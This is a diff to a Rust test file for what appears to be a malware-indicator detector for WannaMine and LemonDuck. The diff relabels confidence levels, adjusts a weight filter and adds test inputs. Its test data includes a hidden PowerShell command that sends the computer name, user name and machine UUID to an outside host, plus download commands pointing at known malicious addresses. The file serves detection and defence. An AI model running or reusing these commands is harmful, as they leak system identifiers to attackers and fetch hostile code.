@@ -14,7 +14,7 @@ fn summary(seen: &[(IndicatorKind, &str)]) -> String {
         let sure = match (found.content, found.certain) {
             (_, true) => "certain",
             (true, false) => "content",
-            (false, false) => "names only",
+            (false, false) => "possible",
         };
         format!("{} {} {sure}", found.family, found.score)
     };
@@ -40,21 +40,21 @@ fn wannamine_by_its_read_back() {
 }
 
 #[test]
-fn wannamine_by_its_class_store_is_likely_by_names_only() {
+fn wannamine_by_the_names_of_its_class_store_is_a_possibility() {
     insta::assert_snapshot!(summary(&[
         (ClassName, "systemcore_Updater8"),
         (ClassProperty, "mimi"),
         (ClassProperty, "mon"),
         (ClassProperty, "funs"),
         (ClassProperty, "ipsu"),
-    ]), @"WannaMine 15 names only");
+    ]), @"WannaMine 15 possible");
 }
 
 #[test]
 fn lemonduck_by_subscription_and_by_script() {
     let counter = COUNTER.replace("5600", "3600");
     let command = "/c powershell -w hidden -c $url='http://'+'t.zer9g.com';a($url+'/a.jsp?v*'+(@($env:COMPUTERNAME,$env:USERNAME,(get-wmiobject Win32_ComputerSystemProduct).UUID,(random))-join'*'))";
-    insta::assert_snapshot!(summary(&[(Query, &counter)]), @"LemonDuck 3 content");
+    insta::assert_snapshot!(summary(&[(Query, &counter)]), @"LemonDuck 3 possible");
     insta::assert_snapshot!(summary(&[(Query, &counter), (CommandText, command)]), @"LemonDuck 21 certain");
 }
 
@@ -110,6 +110,9 @@ fn ordinary_words_and_real_windows_names_weigh_nothing_alone() {
         (FilePath, r"C:\Windows\System32\msvcp120.dll"),
         (FilePath, r"C:\Program Files\Internet Explorer\iexplore.exe"),
         (FilePath, r"C:\Windows\System32\svchost.exe"),
+        (FileName, "startas.bat"),
+        (TaskName, "ngm"),
+        (Port, "14444"),
         (ClassProperty, "sc"),
         (ClassProperty, "ver"),
         (ClassName, "Win32_Service"),
@@ -138,7 +141,7 @@ fn names_alone_are_never_certain() {
 #[test]
 fn every_indicator_finds_its_own_family() {
     for family in Intel::builtin().families() {
-        for indicator in family.indicators.iter().filter(|indicator| indicator.weight > 0) {
+        for indicator in family.indicators.iter().filter(|indicator| indicator.weight > 1) {
             let written = indicator.pattern.as_str();
             let example = || written.replace('#', "12").replace('*', "x");
             let text = match indicator.kind {
@@ -156,6 +159,7 @@ fn hosts_and_files_are_found_in_scripts_as_words_of_their_own() {
     let families =
         |text: &str| find(&[(CommandText, text)]).iter().map(|found| found.family).collect::<Vec<_>>();
     assert_eq!(families("iwr http://195.22.127.93/x"), ["WannaMine"]);
+    assert_eq!(families("cmd /c x & 195.22.127.93."), ["WannaMine"]);
     assert_eq!(families("iwr http://t.AMYNX.com/x"), ["LemonDuck"]);
     assert_eq!(families(r"start C:\Windows\system32\wmassrv.dll"), ["WannaMine (file line)"]);
     assert_eq!(
